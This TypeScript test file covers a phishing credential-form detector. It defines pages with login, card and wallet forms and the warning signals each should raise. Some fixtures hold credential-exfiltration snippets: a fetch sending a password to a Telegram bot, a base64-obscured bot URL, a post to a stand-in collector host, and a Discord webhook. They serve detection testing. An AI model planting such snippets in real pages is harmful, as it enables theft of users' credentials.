import { credentialForm } from '../../../classifiers/detectors/credential-form.ts';
import { formOf, ownHost, requestOf, scriptOf } from '../capture-builder.ts';
import { describeDetector } from './table.ts';

const login = ['username', 'password'] as const;
const encoded = Buffer.from('https://api.telegram.org/bot123:abc/sendMessage').toString('base64');

describeDetector(credentialForm, [
  { page: 'a login of its own', raises: ['alone'], sketch: { forms: [formOf(login)] } },
  { page: 'a login whose action is empty', raises: ['alone', 'sends-nothing'], sketch: { forms: [formOf(login, { action: null })] } },
  { page: 'a login at an identity provider', raises: ['alone'], sketch: { forms: [formOf(login, { action: 'https://tenant.auth0.com/login' })] } },
  { page: 'a card form of a payment provider', raises: [], sketch: { forms: [formOf(['card-number', 'card-expiry', 'card-code'], { action: 'https://checkout.stripe.com/pay' })] } },
  { page: 'a login in the frame of an identity provider', raises: ['alone'], sketch: { forms: [formOf(login, { frameUrl: 'https://login.microsoftonline.com/x', action: 'https://login.microsoftonline.com/x/post' })] } },
  { page: 'a brand whose login stands on its second domain', raises: ['alone'], sketch: { url: 'https://www.marlowbank.test/', forms: [formOf(login, { frameUrl: 'https://marlow-id.test/', action: 'https://marlow-id.test/session' })] } },
  { page: 'a contact form that a relay takes', raises: [], sketch: { forms: [formOf(['name', 'email'], { action: 'https://formspree.io/f/abc' })] } },
  { page: 'a contact form that tells a bot', raises: [], sketch: { forms: [formOf(['email'])], scripts: ['fetch("https://api.telegram.org/bot1:x/sendMessage")'] } },
  { page: 'a hidden password field', raises: [], sketch: { forms: [{ ...formOf(['password'], { action: 'https://elsewhere.test/' }), fields: [{ type: 'password', name: 'p', label: '', autocomplete: '', purpose: 'password', visible: false }] }] } },
  { page: 'a postal "pin code" beside a card', raises: [], sketch: { forms: [{ ...formOf(['card-number']), fields: [...formOf(['card-number']).fields, { type: 'text', name: 'pincode', label: 'PIN code', autocomplete: '', purpose: 'pin', visible: true }] }] } },
  { page: 'a textarea for a private key in a developer console', raises: [], sketch: { body: 'Add an SSH key', forms: [formOf(['seed-phrase'])] } },
  { page: 'a login that a relay takes', raises: ['alone', 'to-receiver'], sketch: { forms: [formOf(login, { action: 'https://formspree.io/f/abc' })] } },
  { page: 'a login on a sub-domain of a web hook catcher', raises: ['alone', 'to-receiver'], sketch: { forms: [formOf(login, { action: 'https://eo12.m.pipedream.net/' })] } },
  { page: 'a login that a bot is told of', raises: ['alone', 'script-to-receiver'], sketch: { forms: [formOf(login, { action: null })], scripts: ['fetch("https://api.telegram.org/bot1:x/sendMessage?text="+p)'] } },
  { page: 'a login that a hidden bot is told of', raises: ['alone', 'script-to-receiver'], sketch: { forms: [formOf(login, { action: null })], scripts: [`var u = atob("${encoded}"); fetch(u)`] } },
  { page: 'a login whose traffic went to a bot', raises: ['alone', 'script-to-receiver'], sketch: { forms: [formOf(login)], requests: [requestOf('https://discord.com/api/webhooks/1/x', { method: 'POST' })] } },
  { page: 'a login that goes to another owner', raises: ['alone', 'to-other-owner'], sketch: { forms: [formOf(login, { action: 'https://collect.other.test/p' })] } },
  { page: 'a login that goes to an address', raises: ['alone', 'downgrade', 'to-address'], sketch: { forms: [formOf(login, { action: 'http://198.51.100.7/p' })] } },
  { page: 'a login sent by mail', raises: ['alone', 'mailto'], sketch: { forms: [formOf(login, { action: 'mailto:box@other.test' })] } },
  { page: 'a form without target whose script sends elsewhere', raises: ['alone', 'script-to-other-owner'], sketch: { forms: [formOf(login, { action: null, loose: true })], scripts: ["$.post('https://collect.other.test/p', data)"] } },
  { page: 'the same, where the script is the analytics of somebody else', raises: ['alone'], sketch: { forms: [formOf(login, { action: null })], scripts: [scriptOf("fetch('https://stats.other.test/p')", 'https://stats.other.test/t.js')] } },
  { page: 'a data: frame that asks for a password', raises: ['alone', 'data-page'], sketch: { forms: [formOf(login, { frameUrl: 'data:text/html,x', action: null })] } },
  { page: 'a blob: frame that asks for a password', raises: ['alone', 'data-page'], sketch: { forms: [formOf(login, { frameUrl: `blob:https://${ownHost}/1`, action: null })] } },
  { page: 'a frame of a stranger that asks for a password', raises: ['alone', 'foreign-frame'], sketch: { forms: [formOf(login, { frameUrl: 'https://stranger.test/f', action: 'https://stranger.test/p' })] } },
  { page: 'a wallet restore form', raises: ['recovery-phrase'], sketch: { body: 'Restore your wallet', forms: [formOf(['seed-phrase'])] } },
  { page: 'a form for everything', raises: ['alone', 'card-and-pin', 'many-secrets'], sketch: { forms: [formOf(['password', 'card-number', 'card-code', 'national-id'])] } },
  { page: 'a login over plain HTTP on an address', raises: ['alone', 'ip-host', 'plain-http'], sketch: { url: 'http://198.51.100.7/', forms: [formOf(login, { frameUrl: 'http://198.51.100.7/', action: 'http://198.51.100.7/p' })] } },
  { page: 'a login on a tenant of a platform', raises: ['alone', 'platform-tenant'], sketch: { url: 'https://someone.github.io/', forms: [formOf(login, { frameUrl: 'https://someone.github.io/', action: 'https://someone.github.io/p' })] } },
  { page: 'a small login with dead links', raises: ['alone', 'dead-links'], sketch: { body: '<a href="#">a</a><a href="#">b</a><a>c</a><a href="javascript:void(0)">d</a>', forms: [formOf(login)] } },
  { page: 'a login with a site around it', raises: [], sketch: { body: 'Log in', forms: [formOf(['username', 'password'])], links: ['https://pages.example.test/about'] } },
  { page: 'a login that goes to a free tenant of another platform', raises: ['alone', 'to-other-owner', 'to-tenant'], sketch: { forms: [formOf(['username', 'password'], { action: 'https://drop.000webhostapp.com/x.php' })] } },
  { page: 'a login whose script sends to a free tenant', raises: ['alone', 'script-to-other-owner', 'script-to-tenant'], sketch: { forms: [formOf(['username', 'password'], { action: null })], scripts: ['fetch("https://drop.pythonanywhere.com/x", { method: "POST" })'] } },
  { page: 'a login that a collector takes', raises: ['alone', 'collector-script'], sketch: { forms: [formOf(['username', 'password'], { action: 'https://pages.example.test/post.php' })] } },
  { page: 'somebody\'s exercise that sends nothing', raises: ['alone', 'sends-nothing'], sketch: { forms: [formOf(['username', 'password'], { action: null })], scripts: ['document.body.classList.add("dark")'] } },
  { page: 'the same with code that could send', raises: ['alone'], sketch: { forms: [formOf(['username', 'password'], { action: null })], scripts: ['b.onclick = () => fetch("/in")'] } },
  { page: 'a router that wants the key of the network', raises: ['alone', 'wifi-key'], sketch: { body: 'A firmware upgrade is needed. Enter your WPA2 password to go on.', forms: [formOf(['password'])] } },
  { page: 'a hotspot that wants a mailbox with its password', raises: ['alone', 'portal-password'], sketch: { body: 'Free Wi-Fi', forms: [formOf(['email', 'password'])] } },
  { page: 'a hotspot that wants a voucher', raises: ['alone'], sketch: { body: 'Free Wi-Fi', forms: [formOf(['password'])] } },
]);
